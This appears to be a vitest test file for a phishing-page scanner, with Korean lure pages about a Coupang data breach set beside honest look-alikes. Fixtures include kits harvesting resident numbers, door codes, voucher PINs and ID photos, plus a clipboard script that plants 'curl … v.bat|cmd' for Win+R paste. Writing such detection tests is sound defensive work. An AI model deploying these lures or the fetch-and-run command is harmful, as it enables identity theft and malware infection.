import { parseHTML } from 'linkedom';
import { describe, expect, it } from 'vitest';
import { scanPage } from '../../lib/page/index';
import { parse } from './helpers';

/**
 * Author T's half (frozen-t, scored once: 9 of its 113 honest pages flagged, 35 of 111 fakes missed in Node), taken
 * by class with pages written apart from it; next to each honest page the kit of the same shape, which stays flagged.
 */
const page = (title: string, body: string) =>
  `<!doctype html><html lang="ko"><head><meta charset="utf-8"><title>${title}</title></head><body>${body}</body></html>`;
const scan = (html: string, url = 'https://x.example/p') =>
  scanPage(parse(html), url, { parseHtml: (m) => parseHTML(m).document as unknown as Document });

describe("author T's honest pages", () => {
  it("reads a unit's two boxes, 동 and 호, as what they take, not the entrance code the notice is about", () => {
    const notice =
      '<div class="hd">햇살마을 관리사무소</div><h2>공동현관 출입번호 변경 안내</h2>' +
      '<p>새 번호는 우편함으로 전해 드립니다.</p>' +
      '<p>최근 쿠팡 고객정보 유출로 공동현관 출입번호가 알려졌을 수 있어 다음 주에 모든 동의 번호를 바꿉니다.</p>';
    const honest = page(
      '햇살마을 관리사무소',
      `${notice}<form><input name="dong" placeholder="동"><input name="ho" placeholder="호"><input type="password" name="p" placeholder="비밀번호"><button>입주민 로그인</button></form>`,
    );
    expect(scan(honest, 'https://haetsal-apt.example/notice/3').verdict).toBe('clean');
    // a box that asks the code itself is what a kit wants, under the same notice
    const kit = page(
      '공동현관 출입번호 확인',
      '<h2>쿠팡 배송 출입번호 확인</h2><p>쿠팡 고객님, 로켓배송 기사님이 출입할 수 있도록 공동현관 출입번호를 입력해 주세요.</p>' +
        '<form><input name="d" placeholder="동"><input name="h" placeholder="호"><input name="code" placeholder="공동현관 출입번호"><button>확인</button></form>',
    );
    expect(scan(kit, 'https://cp-door.example/in').verdict).toBe('suspicious-page');
  });

  it("lets an app store's own listing of the brand's app offer to install it", () => {
    const listing = page(
      '쿠팡 - Google Play 앱',
      '<h1>쿠팡 (Coupang)</h1><p>로켓배송, 로켓프레시, 쿠팡이츠까지 한 번에.</p><button>설치</button><p>평점 4.6 · 리뷰 120만</p>',
    );
    for (const url of [
      'https://play.google.com/store/apps/details?id=com.coupang.mobile',
      'https://apps.apple.com/kr/app/id454434967',
      'https://m.onestore.co.kr/mobilepoc/apps/appsDetail.omp?prodId=0000000001',
    ])
      expect(scan(listing, url).verdict, url).toBe('clean');
    // the same listing anywhere else is a fake store page (Google's other hosts are anyone's: sites.google.com)
    expect(
      scan(listing, 'https://play-google.example/store/apps/details?id=com.coupang.mobile').verdict,
    ).toBe('suspicious-page');
    expect(scan(listing, 'https://sites.google.com/view/coupang-app').verdict).toBe('suspicious-page');
  });

  it('reads the brand as where the breach happened as a party the page reports on, on a page with a name of its own', () => {
    const form =
      '<form><label>성명<input name="n"></label><label>주민등록번호<input name="a" maxlength="6">-<input type="password" name="b" maxlength="7"></label>' +
      '<label>휴대폰<input name="t"></label><button>인증 요청</button></form>';
    const honest = page(
      '명의보호센터',
      `<div class="bar">명의보호센터</div><h2>내 명의 개통 조회</h2>${form}<p>쿠팡 유출 이후 내 명의로 개통된 휴대폰이 있는지 확인할 수 있습니다.</p>`,
    );
    expect(scan(honest, 'https://www.myname-guard.or.kr/check').verdict).toBe('clean');
    // a bar that repeats the title is a name only on a public body's host: a kit draws one for free
    expect(scan(honest, 'https://myname-block.example/check').verdict).toBe('suspicious-page');
    // the same sentence going on to the lure's payout is the lure
    const payout = page(
      '명의보호센터',
      `<div class="bar">명의보호센터</div><h2>조회</h2>${form}<p>쿠팡 유출 이후 피해 보상금을 받으실 분은 본인 확인을 해 주세요.</p>`,
    );
    expect(scan(payout, 'https://www.myname-guard.or.kr/check').verdict).toBe('suspicious-page');
    // … and with no name of its own (no bar saying what its title says), the brand's sentence is the page's voice
    const bare = page(
      '본인 확인',
      `<h2>내 명의 개통 조회</h2>${form}<p>쿠팡 유출 이후 내 명의로 개통된 휴대폰이 있는지 확인할 수 있습니다.</p>`,
    );
    expect(scan(bare, 'https://check-id.or.kr/').verdict).toBe('suspicious-page');
  });
});

describe("author T's fakes", () => {
  it('reads a password box for "that shop", the brand named just before it, as the brand\'s login asked', () => {
    const check = (box: string) =>
      page(
        '유출 조회',
        `<div class="top">개인정보 안심센터</div><h2>내 정보 유출 확인</h2><p>최근 큰 쇼핑몰(쿠팡)에서 유출된 자료에 내 정보가 있는지 확인하세요.</p>` +
          `<form><input name="m" placeholder="이메일">${box}<button>확인</button></form>`,
      );
    expect(
      scan(check('<input name="k" placeholder="해당 쇼핑몰 비밀번호 (대조용)">'), 'https://leak-chk.example/')
        .verdict,
    ).toBe('suspicious-page');
    expect(
      scan(check('<input name="k" placeholder="해당 쇼핑몰 계정 비밀번호">'), 'https://leak-chk.example/')
        .verdict,
    ).toBe('suspicious-page');
    // a seller tool linking a marketplace asks for "that shop's" password honestly: no leak is its subject
    const tool = page(
      '셀러허브 - 쇼핑몰 연동',
      '<header><b>셀러허브</b></header><h2>쿠팡 윙 연동</h2><p>쿠팡 윙 판매자 계정을 연동하면 주문을 한곳에서 관리할 수 있습니다.</p>' +
        '<form><input name="id" placeholder="해당 쇼핑몰 아이디"><input type="password" name="pw" placeholder="해당 쇼핑몰 비밀번호"><button>연동</button></form>',
    );
    expect(scan(tool, 'https://app.sellerhub.example/shops/add').verdict).toBe('clean');
    // the honest leak check asks the e-mail only
    expect(scan(check(''), 'https://leak-chk.example/').verdict).toBe('clean');
  });

  it("does not read an authority's name as talk about scams where the page wears it off the government's hosts", () => {
    const body =
      '<h2>쿠팡 개인정보 유출 2차 피해 조회</h2><p>유출된 정보가 범죄에 쓰였는지 조회할 수 있습니다.</p>' +
      '<form><label>성명<input name="n"></label><label>주민등록번호<input name="a" size="6">-<input name="b" type="password" size="7"></label><button>조회</button></form>';
    const worn = page('경찰청 - 피해 조회', `<div class="bar">경찰청 사이버수사국</div>${body}`);
    expect(scan(worn, 'https://kr-check.example/ecrm').verdict).toBe('suspicious-page');
    // … however long the bar runs after the authority's name
    const long = page(
      '경찰청 - 피해 조회',
      `<div class="bar">경찰청 사이버수사국 개인정보 유출 2차 피해 통합 조회 시스템</div>${body}`,
    );
    expect(scan(long, 'https://kr-check.example/ecrm').verdict).toBe('suspicious-page');
    // the same page on the government's own host is the authority's
    expect(scan(worn, 'https://ecrm.police.go.kr/check').verdict).toBe('clean');
    // and a headline naming the authority, on a page that does not wear it, is still talk
    const news = page(
      '경찰, 쿠팡 사칭 문자 수사 착수',
      '<div class="bar">한빛일보</div><h1>경찰, 쿠팡 사칭 문자 수사 착수</h1><p>경찰은 쿠팡 개인정보 유출 이후 늘어난 사칭 문자를 수사한다고 밝혔다.</p>' +
        '<form><input name="q" placeholder="기사 검색"><button>검색</button></form>',
    );
    expect(scan(news, 'https://hanbit-ilbo.example/news/1').verdict).toBe('clean');
  });

  it("reads an article under the lure's headline whose own form asks who the reader is as the lure", () => {
    const article = (form: string) =>
      page(
        '쿠팡 유출 보상금 조회 - 소비자경제신문',
        '<div class="mast">소비자경제신문</div><nav>경제 | 사회 | 생활</nav><article><h1>쿠팡 유출 보상금, 지금 조회 가능</h1>' +
          '<p class="by">김하늘 기자 · 입력 2025.12.20</p><p>쿠팡 고객정보 유출 사고와 관련한 보상금 조회가 시작됐다. 아래에서 바로 확인할 수 있다.</p>' +
          `${form}<p>전문가들은 서둘러 확인할 것을 권했다.</p></article>`,
      );
    const lookup =
      '<form><input name="n" placeholder="이름"><input name="p" placeholder="휴대폰번호"><input name="b" placeholder="생년월일"><button>조회</button></form>';
    expect(scan(article(lookup), 'https://daily-cr.example/news/7').verdict).toBe('suspicious-page');
    // a paper's own forms take an e-mail for its newsletter or a reader's comment
    const newsletter =
      '<form><input type="email" name="e" placeholder="이메일"><button>뉴스레터 구독</button></form>';
    expect(scan(article(newsletter), 'https://daily-cr.example/news/7').verdict).toBe('clean');
    // … or a member's login (its own id and password)
    const member =
      '<form><input name="uid" placeholder="아이디"><input type="password" name="upw" placeholder="비밀번호"><button>로그인</button></form>';
    expect(scan(article(member), 'https://daily-cr.example/news/7').verdict).toBe('clean');
    // … or a subscription's account, or a suit's sign-up it hosts for a firm: neither looks a payout up
    const subscribe =
      '<form><input name="n" placeholder="신청인 이름"><input name="t" placeholder="연락처"><input name="b" placeholder="자동이체 은행"><input name="a" placeholder="출금 계좌번호"><button>구독 신청</button></form>';
    expect(scan(article(subscribe), 'https://daily-cr.example/news/7').verdict).toBe('clean');
    const suit =
      '<form><input name="n" placeholder="이름"><input name="b" placeholder="생년월일"><input name="t" placeholder="휴대폰 번호"><button>공동소송 참여 신청</button></form>';
    expect(scan(article(suit), 'https://daily-cr.example/news/7').verdict).toBe('clean');
    // the consolation money the news reported is a payout to look up too, and a one-time code no paper takes
    const otp =
      '<form><input name="n" placeholder="이름"><input name="p" placeholder="휴대폰번호"><input name="d" placeholder="생년월일"><input name="c" placeholder="문자 인증번호"><button>위로금 조회</button></form>';
    const consolation = page(
      '쿠팡 위로금 대상 확인 - 소비자경제신문',
      '<div class="mast">소비자경제신문</div><article><h1>쿠팡 위로금, 지금 확인하세요</h1><p class="by">김하늘 기자 · 입력 2025.12.20</p>' +
        `<p>쿠팡 고객정보 유출 사고와 관련한 위로금 대상 확인이 시작됐다.</p>${otp}</article>`,
    );
    expect(scan(consolation, 'https://daily-cr.example/news/8').verdict).toBe('suspicious-page');
  });

  it("reads an identity card's picture asked as a file as the resident number it shows", () => {
    const job = (file: string) =>
      page(
        '쿠팡플렉스 모집',
        '<h2>쿠팡플렉스 재택 부업 모집</h2><ul><li>하루 1~2시간, 휴대폰만 있으면 가능</li><li>당일 정산</li></ul>' +
          `<form><input name="name" placeholder="이름"><input name="phone" placeholder="연락처"><input name="acct" placeholder="급여 받을 계좌">${file}<button>지원하기</button></form>`,
      );
    expect(
      scan(job('<p>신분증 사진 <input type="file" accept="image/*"></p>'), 'https://flex-job.example/apply')
        .verdict,
    ).toBe('suspicious-page');
    expect(scan(job('<input type="file" name="id_card">'), 'https://flex-job.example/apply').verdict).toBe(
      'suspicious-page',
    );
    // (the colloquial 주민증, and the word with invisible joiners between its letters)
    expect(
      scan(job('<p>주민증 앞면 <input type="file"></p>'), 'https://flex-job.example/apply').verdict,
    ).toBe('suspicious-page');
    expect(
      scan(job('<p>신\u200b분\u200b증 <input type="file"></p>'), 'https://flex-job.example/apply').verdict,
    ).toBe('suspicious-page');
    // a résumé is what an application takes
    const staffing = page(
      '한결인력 - 물류센터 단기 알바',
      '<header><b>한결인력</b></header><h2>물류센터 단기 알바 지원</h2><p>쿠팡 물류센터 등 수도권 센터 근무, 주 3일 이상.</p>' +
        '<form><input name="name" placeholder="이름"><input name="phone" placeholder="연락처"><p>이력서 <input type="file" name="resume"></p><button>지원하기</button></form>',
    );
    expect(scan(staffing, 'https://hangyeol-staff.example/apply').verdict).toBe('clean');
    // … and an employer that names itself takes an identity card's copy for the contract
    const contract = page(
      '쿠팡 물류센터 단기 알바 모집',
      '<header><b>한결인력</b></header><h2>물류센터 단기 알바 지원</h2><p>쿠팡 물류센터 등 수도권 센터 근무, 주 3일 이상.</p>' +
        '<form><input name="name" placeholder="이름"><input name="phone" placeholder="연락처"><p>신분증 사본 (근로계약서 작성용) <input type="file" name="idcopy"></p><button>지원하기</button></form>',
    );
    expect(scan(contract, 'https://hangyeol-staff.example/apply').verdict).toBe('clean');
  });

  it("reads a voucher's PIN asked as proof of who the reader is, or to unlock a payout, as the voucher spent", () => {
    const pins =
      '<form><input name="pin1" maxlength="4"> - <input name="pin2" maxlength="4"> - <input name="pin3" maxlength="4"><button>등록</button></form>';
    const verify = page(
      '상품권 등록',
      `<h2>쿠팡캐시 충전 인증</h2><p>쿠팡캐시 보상 지급 전 기프트카드 코드로 본인 확인이 필요합니다.</p>${pins}`,
    );
    expect(scan(verify, 'https://cash-chk.example/pin').verdict).toBe('suspicious-page');
    const unlock = page(
      'Gift card',
      `<div class="logo">Coupang</div><h2>Gift card verification</h2><p>To unlock your compensation, register a gift card PIN (refunded).</p>${pins}`,
    );
    expect(scan(unlock, 'https://cash-chk.example/pin').verdict).toBe('suspicious-page');
    const realName = page(
      '상품권 등록',
      `<h2>쿠팡캐시 위로금 지급</h2><p>실명 확인을 위해 문화상품권 PIN을 등록해 주세요. 확인 후 되돌려 드립니다.</p>${pins}`,
    );
    expect(scan(realName, 'https://cash-chk.example/pin').verdict).toBe('suspicious-page');
    // registering a voucher into the site's own wallet spends nothing the reader does not choose to (into the
    // brand's cash on a host that is not the brand's, it is the voucher handed over: classes-z.test.ts)
    const wallet = page(
      '상품권 등록 | 누리몰',
      `<div class="logo">누리몰</div><h2>누리캐시 충전</h2><p>가지고 계신 기프트카드 코드를 등록하면 누리캐시 잔액이 충전됩니다. 쿠팡 등 다른 쇼핑몰 상품권은 등록되지 않습니다.</p>${pins}`,
    );
    expect(scan(wallet, 'https://nuri-mall.example/pin').verdict).toBe('clean');
  });

  it('reads "보상 결과" as the payout lure 보상금 is', () => {
    const bait = page(
      '알림',
      '<div class="ov"><h3>\'허용\'을 눌러 쿠팡 보상 결과를 받아보세요</h3><p>조회 결과는 알림으로만 보내 드립니다.</p></div>' +
        "<script>if('Notification' in window){Notification.requestPermission()}</script>",
    );
    expect(scan(bait, 'https://noti-kr.example/?c=1').verdict).toBe('suspicious-page');
    // a paper offering its own alerts about the payout, under its own name, asks for nothing
    const paper = page(
      '한빛일보',
      '<header><b>한빛일보</b></header><h2>쿠팡 보상 결과, 이번 주 발표</h2><p>쿠팡 보상 결과 발표 일정과 대상자 기준을 정리했다.</p><button>속보 알림 받기</button>',
    );
    expect(scan(paper, 'https://hanbit-ilbo.example/n/2').verdict).toBe('clean');
    // (not "보상 대상 조회": a law firm offers to check who may claim in those words, with its own name atop)
    const firm = page(
      '법무법인 한결 - 쿠팡 유출 보상대상 조회',
      '<header><b>법무법인 한결</b></header><h2>쿠팡 유출 보상대상 조회</h2><p>쿠팡 개인정보 유출 피해 소송 참여 대상인지 확인해 드립니다.</p>' +
        '<form><input name="n" placeholder="이름"><input name="b" placeholder="생년월일"><input name="t" placeholder="연락처"><button>조회</button></form>',
    );
    expect(scan(firm, 'https://hangyeol-law.example/coupang').verdict).toBe('clean');
  });

  it("reads the brand's name signed on a command the page copies for the Run box as the brand's voice", () => {
    const fix = (note: string) =>
      page(
        '확인 중',
        '<div class="logo">C 보안 확인</div><p>보상 조회 페이지 접속 전 보안 확인</p><label><input type="checkbox" id="c"> 로봇이 아닙니다</label>' +
          '<div id="st" hidden><ol><li><b>Win</b> + <b>R</b> 키를 누르세요</li><li><b>Ctrl</b> + <b>V</b> 로 붙여넣기</li><li><b>Enter</b>를 누르세요</li></ol></div>' +
          `<script>document.getElementById('c').onchange=function(){navigator.clipboard.writeText('cmd /c curl -s 192.0.2.7/v.bat|cmd # ${note}');document.getElementById('st').hidden=false}</script>`,
      );
    expect(scan(fix('쿠팡 보안 인증 ID:32747'), 'http://192.0.2.9:8443/check').verdict).toBe(
      'suspicious-page',
    );
    // (the line built in a variable first)
    const built = fix('x').replace(
      "navigator.clipboard.writeText('cmd /c curl -s 192.0.2.7/v.bat|cmd # x')",
      "var line='cmd /c curl -s 192.0.2.7/v.bat|cmd'+' # 쿠팡 보안 인증';navigator.clipboard.writeText(line)",
    );
    expect(built).toContain('writeText(line)');
    const escaped = built.replace('쿠팡', '\\ucfe0\\ud321');
    expect(escaped).toContain('\\ucfe0');
    expect(scan(escaped, 'http://192.0.2.9:8443/check').verdict).toBe('suspicious-page');
    expect(scan(built, 'http://192.0.2.9:8443/check').verdict).toBe('suspicious-page');
    // the same kit signing with no name of the brand's is no Coupang page (another guard's to catch)
    expect(scan(fix('보안 인증 ID:32747'), 'http://192.0.2.9:8443/check').verdict).toBe('clean');
  });
});
